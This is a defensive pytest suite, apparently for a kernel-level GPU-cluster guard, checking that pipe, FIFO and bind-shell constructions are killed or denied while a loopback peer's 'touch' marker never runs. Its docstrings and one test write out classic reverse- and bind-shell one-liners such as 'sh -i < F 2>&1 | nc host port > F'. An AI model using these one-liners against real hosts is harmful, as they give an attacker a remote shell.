"""Reverse shells wired through pipes and FIFOs (`nc host port | sh`, mkfifo loops), blocked in the kernel.

Each test runs a real shell and a harmless netcat (lab.RELAY) in a job cgroup it created, with a loopback
peer (lab.CommandPeer) that sends `touch MARKER`: the marker must never appear in enforce mode. Both
orders are covered: shell first (the netcat's connect is refused) and netcat first (the shell is killed
at exec, before its first instruction). Monitor mode reports and lets the command run.
"""

from __future__ import annotations

import os
import subprocess

import pytest

from gpuguard.v1 import policy_pb2 as ppb
from lab import RELAY, CommandPeer, popen_in_cgroup, run_in_cgroup
from tests.conftest import PYTHON, fresh_job_id, wait_for

pytestmark = pytest.mark.kernel

RULE = "t-revsh-pipe"


def watch_shells(enforcer, job: str, monitor: bool = False) -> None:
    scope = ppb.Scope(job_ids=[job], exclude_job_ids=[job] if monitor else [])
    enforcer.apply(ppb.Policy(version=11, kill=[
        ppb.KillBinary(rule_id=RULE, comm=name, scope=scope, stdio_socket=True, stdio_pipe_network=True)
        for name in ("sh", "dash", "bash")]), persist=False)


def enforcement(capture, action: str) -> list[dict]:
    return wait_for(capture, lambda r: r["kind"] == "enforcement" and r["enforcement"]["rule_id"] == RULE
                    and r["enforcement"]["action"] == action)


def exec_seen(capture, pid: int, argv: list[str]) -> list[dict]:
    return wait_for(capture, lambda r: r["kind"] == "exec" and r["proc"]["pid"] == pid and r["exec"]["argv"] == argv)


def test_shell_first_then_its_feeder_cannot_connect(capture, enforcer, test_cgroup, tmp_path):
    """sh reads a pipe; the process writing that pipe tries to connect out: EPERM, the peer sees nobody."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    watch_shells(enforcer, job)
    marker = tmp_path / "pwned"
    peer = CommandPeer(f"touch {marker}\n".encode())
    r, w = os.pipe()
    shell = popen_in_cgroup(cg, ["/bin/sh"], stdin=r, stdout=subprocess.DEVNULL)
    os.close(r)
    try:
        assert exec_seen(capture, shell.pid, ["/bin/sh"])            # the shell is there, its pipe watched
        feeder = run_in_cgroup(cg, [PYTHON, "-c", RELAY, str(peer.port)], stdout=w, stdin=subprocess.DEVNULL,
                               timeout=20)
        os.close(w)
        w = -1
        assert feeder.returncode == 13                                 # connect refused with EPERM
        assert shell.wait(timeout=10) == 0                             # EOF on its stdin: nothing ran
        hits = enforcement(capture, "deny_pipe_connect")
        assert hits and hits[0]["job"]["id"] == job and hits[0]["enforcement"]["peer_pid"] == shell.pid
        assert peer.accepted == 0 and not marker.exists()
    finally:
        if w >= 0:
            os.close(w)
        if shell.poll() is None:
            shell.kill()
            shell.wait()
        peer.close()


def test_feeder_first_then_the_shell_is_killed_at_exec(capture, enforcer, test_cgroup, tmp_path):
    """The netcat connected and pipes the peer's command; a shell exec'd on the other end dies at exec."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    watch_shells(enforcer, job)
    marker = tmp_path / "pwned"
    peer = CommandPeer(f"touch {marker}\n".encode())
    r, w = os.pipe()
    feeder = popen_in_cgroup(cg, [PYTHON, "-c", RELAY, str(peer.port)], stdout=w, stdin=subprocess.DEVNULL)
    os.close(w)
    try:
        connected = wait_for(capture, lambda rec: rec["kind"] == "connect" and rec["proc"]["pid"] == feeder.pid
                             and rec["connect"]["dport"] == peer.port)
        assert connected                                               # its pipe end is now remembered
        shell = run_in_cgroup(cg, ["/bin/sh"], stdin=r, stdout=subprocess.DEVNULL, timeout=20)
        assert shell.returncode == -9                                  # SIGKILL before its first instruction
        hits = enforcement(capture, "kill_exec")
        assert hits and hits[0]["job"]["id"] == job and hits[0]["enforcement"]["peer_pid"] == feeder.pid
        assert "pipe" in hits[0]["enforcement"]["detail"]
        assert not marker.exists()
    finally:
        os.close(r)
        feeder.kill()
        feeder.wait()
        peer.close()


def test_fifo_loop_never_runs_the_peers_command(capture, enforcer, test_cgroup, tmp_path):
    """The classic `sh -i < F 2>&1 | nc host port > F`: whichever of the two starts first, the loop is cut."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    watch_shells(enforcer, job)
    marker, fifo = tmp_path / "pwned", tmp_path / "f"
    os.mkfifo(fifo)
    peer = CommandPeer(f"touch {marker}\n".encode())
    relay = tmp_path / "relay.py"
    relay.write_text(RELAY)
    line = f"/bin/sh -i < {fifo} 2>&1 | {PYTHON} {relay} {peer.port} > {fifo}"
    loop = popen_in_cgroup(cg, ["/bin/sh", "-c", line], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    try:
        hits = wait_for(capture, lambda r: r["kind"] == "enforcement" and r["enforcement"]["rule_id"] == RULE,
                        timeout=15)
        assert hits and {h["enforcement"]["action"] for h in hits} <= {"kill_exec", "deny_pipe_connect"}
        peer.close()                                                   # the relay (if it connected) ends
        loop.wait(timeout=15)
        assert not marker.exists()
    finally:
        if loop.poll() is None:
            loop.kill()
            loop.wait()
        peer.close()


def test_monitor_mode_reports_and_lets_it_run(capture, enforcer, test_cgroup, tmp_path):
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    watch_shells(enforcer, job, monitor=True)
    marker = tmp_path / "ran"
    peer = CommandPeer(f"touch {marker}\n".encode())
    r, w = os.pipe()
    feeder = popen_in_cgroup(cg, [PYTHON, "-c", RELAY, str(peer.port)], stdout=w, stdin=subprocess.DEVNULL)
    os.close(w)
    try:
        assert wait_for(capture, lambda rec: rec["kind"] == "connect" and rec["proc"]["pid"] == feeder.pid
                        and rec["connect"]["dport"] == peer.port)
        peer.close()
        shell = run_in_cgroup(cg, ["/bin/sh"], stdin=r, stdout=subprocess.DEVNULL, timeout=20)
        assert shell.returncode == 0 and marker.exists()              # monitor: nothing was blocked
        hits = enforcement(capture, "seen_reverse_shell")
        assert hits and hits[0]["enforcement"]["peer_pid"] == feeder.pid
    finally:
        os.close(r)
        if feeder.poll() is None:
            feeder.kill()
        feeder.wait()


# A harmless stand-in for `nc -l -p PORT` in a bind shell: listens on loopback, then waits for its stdin to close.
LISTENER = ("import socket, sys\n"
            "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)\n"
            "sys.stdin.read()\n")


def test_bind_shell_listener_first_then_the_shell_is_killed_at_exec(capture, enforcer, test_cgroup):
    """`nc -l -p 4444 | sh`: the listener is up with its stdout on a pipe; a shell exec'd on the pipe's other end
    dies at exec, before anyone has connected."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    watch_shells(enforcer, job)
    r, w = os.pipe()
    listener = popen_in_cgroup(cg, [PYTHON, "-c", LISTENER], stdout=w, stdin=subprocess.PIPE)
    os.close(w)
    try:
        assert wait_for(capture, lambda rec: rec["kind"] == "listen" and rec["proc"]["pid"] == listener.pid)
        shell = run_in_cgroup(cg, ["/bin/sh"], stdin=r, stdout=subprocess.DEVNULL, timeout=20)
        assert shell.returncode == -9                                  # SIGKILL before its first instruction
        hits = enforcement(capture, "kill_exec")
        assert hits and hits[-1]["job"]["id"] == job and hits[-1]["enforcement"]["peer_pid"] == listener.pid
    finally:
        os.close(r)
        listener.kill()
        listener.wait()


def test_bind_shell_shell_first_then_the_listener_is_killed_at_listen(capture, enforcer, test_cgroup):
    """`sh < f | ...; nc -l -p 4444 > f` the other way round: the shell is up reading a pipe; the process writing
    that pipe calls listen() and is killed there, before it can accept anyone."""
    job = fresh_job_id()
    cg = test_cgroup(f"slurm/job_{job}")
    watch_shells(enforcer, job)
    r, w = os.pipe()
    shell = popen_in_cgroup(cg, ["/bin/sh"], stdin=r, stdout=subprocess.DEVNULL)
    os.close(r)
    try:
        assert exec_seen(capture, shell.pid, ["/bin/sh"])            # the shell is there, its pipe watched
        listener = run_in_cgroup(cg, [PYTHON, "-c", LISTENER], stdout=w, stdin=subprocess.DEVNULL, timeout=20)
        os.close(w)
        w = -1
        assert listener.returncode == -9                              # killed at listen()
        assert shell.wait(timeout=10) == 0                             # EOF on its stdin: nothing ran
        hits = enforcement(capture, "kill_bind_shell")
        assert hits and hits[0]["job"]["id"] == job and hits[0]["enforcement"]["peer_pid"] == shell.pid
        assert "bind shell" in hits[0]["enforcement"]["detail"]
    finally:
        if w >= 0:
            os.close(w)
        if shell.poll() is None:
            shell.kill()
            shell.wait()
